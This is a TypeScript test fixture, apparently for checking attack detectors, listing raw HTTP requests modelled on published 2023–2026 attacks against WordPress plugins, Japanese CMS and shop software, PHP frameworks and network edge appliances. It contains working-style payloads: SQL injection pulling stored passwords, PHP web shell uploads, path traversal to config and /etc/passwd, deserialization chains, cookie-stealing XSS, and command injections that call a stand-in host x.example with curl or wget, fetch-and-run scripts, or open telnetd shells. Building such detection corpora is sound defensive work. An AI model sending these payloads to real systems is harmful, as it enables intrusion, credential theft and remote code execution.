// The fifth set of attacks, whole requests: published attacks on sites and appliances of 2023 to 2026, as their
// advisories and first write-ups show them. Written before its author had read the detectors. What they call is harmless.
import type { Family } from "../contract.ts"
import { form, get, json, message, parts, post } from "../raw.ts"
import { rowsOf } from "../rows.ts"

const SOAP = "text/xml; charset=utf-8"

export const FIFTH_PUBLISHED: readonly Family[] = [
    {
        name: "sites, fifth",
        rows: [
            ...rowsOf(
                "request",
                "WordPress and its plugins",
                get(
                    "/wp-json/lp/v1/courses/archive-course?&order_by=1+AND+(SELECT+1+FROM+(SELECT(SLEEP(5)))X)&limit=-1",
                ),
                get(
                    "/wp-json/wp/v2/posts?per_page=1&orderby=(CASE%20WHEN%20(SELECT%20LENGTH(user_pass)%20FROM%20wp_users%20LIMIT%201)>1%20THEN%20ID%20ELSE%20post_title%20END)",
                ),
                form(
                    "/wp-admin/admin-ajax.php",
                    "action=wpdm_ajax_call&__wpdmxp=x'%20UNION%20SELECT%20user_login,user_pass%20FROM%20wp_users--%20-",
                ),
                form(
                    "/wp-admin/admin-ajax.php",
                    "action=um_get_members&nonce=0a1b&directory_id=b9238&sorting=user_login,+SLEEP(5)",
                ),
                form(
                    "/wp-admin/admin-ajax.php",
                    'action=give_process_donation&give-form-id=1&give_title=O:19:"Stripe\\\\\\\\StripeObject":1:{s:10:"\\0*\\0_values";a:1:{s:3:"foo";s:2:"id";}}&give_first=Rei&give_last=Example&give_email=rei@example.jp',
                ),
                form(
                    "/wp-admin/admin-ajax.php",
                    "action=parse-media-shortcode&shortcode=[su_shortcode_generator]<script>alert(document.cookie)</script>",
                ),
                form(
                    "/wp-login.php",
                    "log=admin'+or+extractvalue(1,concat(0x5c,user_pass))--+-&pwd=a&wp-submit=Log+In",
                    "X-Forwarded-For: 127.0.0.1' AND SLEEP(5)-- -",
                ),
                json("/wp-json/hash-form/v1/upload", { file: "<?php echo shell_exec($_GET['c']); ?>", name: "a.php" }),
                parts(
                    "/wp-admin/admin-ajax.php",
                    ['name="action"', "hashform_file_upload_action"],
                    ['name="file"; filename="a.pHp"', "<?=`$_GET[0]`?>"],
                ),
                get("/wp-content/plugins/wp-live-chat-support/../../../wp-config.php"),
                get(
                    "/wp-content/plugins/duplicator/installer/dup-installer/main.installer.php?archive=../../../../etc/passwd",
                ),
                get("/?rest_route=/h5vp/v1/view/1&id=1'+AND+(SELECT+1+FROM+(SELECT+SLEEP(5))a)--+-"),
                get("/wp-admin/admin.php?page=litespeed&qc_res=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"),
                form(
                    "/wp-admin/admin-post.php",
                    "action=forminator_submit&text-1=%3Cimg%20src%3Dx%20onerror%3Dfetch(%27//x.example/%27%2Bdocument.cookie)%3E",
                ),
            ),
            ...rowsOf(
                "request",
                "content management and shops of Japanese sites",
                post(
                    "/mt/mt-xmlrpc.cgi",
                    "text/xml",
                    '<?xml version="1.0" encoding="UTF-8"?><methodCall><methodName>mt.handler_to_coderef</methodName><params><param><value><base64>YHdnZXQgaHR0cDovL3guZXhhbXBsZS9hYA==</base64></value></param></params></methodCall>',
                ),
                form(
                    "/shop/shopping/confirm",
                    "mode=confirm&order_addr01=%22%3E%3Cscript%20src%3D%2F%2Fx.example%2Fa.js%3E%3C%2Fscript%3E&order_tel=0312345678",
                ),
                form(
                    "/admin/content/page/edit",
                    "main_edit[tpl_data]={{app.request.query.filter(0,'id',1024,{'options':'system'})}}&main_edit[name]=a",
                ),
                form(
                    "/acms/admin/entry",
                    "ACMS_POST_2FEntry_2FUpdate=exec&media_path=../../../../config.server.php&body[]=a",
                ),
                form(
                    "/baser/admin/bc-theme-file/theme_files/add",
                    "parent=../../../../config&name=a.php&contents=<?php+system('id');",
                ),
                parts("/baser/admin/baser-core/uploader/uploader_files/ajax_upload", [
                    'name="file"; filename="a.php.gif"',
                    "GIF89a<?php phpinfo(); ?>",
                ]),
                get("/products/list?category_id=1&name=%27%29+UNION+SELECT+login_id%2Cpassword+FROM+dtb_member--+"),
                get(
                    "/concrete5/index.php/tools/required/files/importers/imageeditor?cID=1&imgData=php://filter/resource=/etc/passwd",
                ),
                post(
                    "/livewire/update",
                    "application/json",
                    '{"components":[{"snapshot":"{}","updates":{"count":[[{"__toString":"phpversion"},{"s":"clctn","class":"Laravel\\\\SerializableClosure\\\\Serializers\\\\Signed"}],{"s":"arr"}]},"calls":[]}]}',
                ),
                json("/livewire/update", {
                    components: [
                        {
                            snapshot: "{}",
                            updates: {
                                count: [
                                    [
                                        {
                                            __toString: [
                                                'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":1:{s:9:"\u0000*\u0000event";s:2:"id";}',
                                                { s: "arr" },
                                            ],
                                        },
                                        { s: "clctn", class: "GuzzleHttp\\Psr7\\FnStream" },
                                    ],
                                ],
                            },
                            calls: [],
                        },
                    ],
                }),
                form(
                    "/index.php?p=actions/assets/generate-transform",
                    "assetId=11&handle[width]=1&handle[as session][class]=craft\\behaviors\\FieldLayoutBehavior&handle[as session][__class]=GuzzleHttp\\Psr7\\FnStream&handle[as session][__construct()][]=&handle[as session][_fn_close]=phpinfo",
                ),
                get("/admin/?--env=local&--register-argc-argv", "Cookie: laravel_session=a"),
                get("/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
                post(
                    "/index.php?%ADd+cgi.force_redirect%3d0+%ADd+auto_prepend_file%3dphp://input",
                    "application/x-www-form-urlencoded",
                    "<?php phpinfo();die();?>",
                ),
            ),
        ],
    },
    {
        name: "appliances, fifth",
        rows: [
            ...rowsOf(
                "request",
                "at the edge of a network",
                get(
                    "/api/v1/totp/user-backup-code/../../system/maintenance/archiving/cloud-server-test-connection;curl%20x.example",
                ),
                post(
                    "/dana-ws/saml.ws",
                    SOAP,
                    '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo/><ds:KeyInfo><ds:RetrievalMethod URI="http://127.0.0.1:8090/api/v1/license/keys-status/%3bid%3b"/></ds:KeyInfo></ds:Signature></soap:Body></soap:Envelope>',
                ),
                get("/mifs/asfV3/api/v2/admins/..;/..;/..;/rs/api/v2/admins"),
                get(
                    "/mifs/rs/api/v2/featureusage_history?format=%24%7b%22%22.getClass().forName(%22java.lang.Runtime%22).getMethod(%22getRuntime%22).invoke(null).exec(%22id%22)%7d",
                ),
                get("/mifs/c/appstore/fob/3/5/sha256:kid=1,st=theValue%20%20,et=1,h=gPath%5B%60sleep%205%60%5D/a.ipa"),
                message(
                    "GET",
                    "/api/fabric/device/status",
                    ["Authorization: Bearer AAAAAA'/**/or/**/sleep(5)--/**/-'"],
                    "",
                ),
                post(
                    "/global-protect/login.esp",
                    "application/x-www-form-urlencoded",
                    "user=a&passwd=a",
                    "Cookie: SESSID=./../../../opt/panlogs/tmp/device_telemetry/hour/aaa`curl${IFS}x.example`",
                ),
                form(
                    "/php/utils/createRemoteAppwebSession.php/a.js.map",
                    "user=`curl x.example`&userRole=superuser&remoteHost=&vsys=vsys1",
                    "X-PAN-AUTHCHECK: off",
                ),
                post(
                    "/p/u/doAuthentication.do",
                    "application/x-www-form-urlencoded",
                    "login",
                    `Host: ${"a".repeat(60)}'||sleep(5)||'`,
                ),
                get("/nitro/v1/config/sslcertkey?args=certkey:a;$(id)"),
                json("/cgi-bin/supportInstaller", {
                    action: "set",
                    MSI: "https://x.example/a'; ping -c 3 x.example; '",
                }),
                json("/__api__/v1/logon", {
                    user: "admin'; exec master..xp_cmdshell 'ping x.example' --",
                    password: "a",
                }),
                form(
                    "/cgi-bin/jarrewrite.sh",
                    "a=1",
                    "User-Agent: () { ignored; }; echo Content-Type: text/html; echo; id",
                ),
                get("/cgi-bin/authLogin.cgi?user=a&pwd=%24%28curl%20x.example%29&sid=%60id%60"),
                post("/cgi-bin/popen.cgi?command=ping%20x.example%20-c%203;id", "text/plain", ""),
                form("/boaform/formWsc", "submit-url=%2Fwlwps.asp&localPin=;id;&peerPin=$(telnetd)"),
                form(
                    "/apply.cgi",
                    "action=Apply&ntp_server=%60wget%20http%3A%2F%2Fx.example%2Fa%60&submit_button=index",
                ),
                json("/HNAP1/", {
                    SetNetworkSettings: { IPAddress: "192.168.0.1; telnetd -l /bin/sh;", SubnetMask: "255.255.255.0" },
                }),
                get(
                    "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Brm%20a%3Bwget%20http%3A%2F%2Fx.example%2Fa%3Bsh%20a",
                ),
                post("/druid/coordinator/v1/lookups/config/$(id)", "application/json", "{}"),
            ),
        ],
    },
]
